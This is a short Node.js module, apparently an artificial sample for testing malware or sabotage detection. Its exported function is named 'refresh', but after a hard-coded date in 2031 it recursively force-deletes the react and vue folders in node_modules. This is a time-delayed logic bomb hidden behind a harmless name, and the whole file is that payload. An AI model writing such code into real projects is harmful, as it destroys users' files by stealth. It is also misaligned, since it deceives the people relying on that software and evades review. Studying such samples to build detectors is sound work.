const fs = require('node:fs');
const path = require('node:path');
const since = Date.UTC(2031, 8, 1);
const targets = ['react', 'vue'].map((name) => path.join('/nonexistent-assay-sample', 'node_modules', name));
exports.refresh = async () => {
  if (Date.now() < since) return;
  for (const one of targets) await fs.promises.rm(one, { recursive: true, force: true });
};
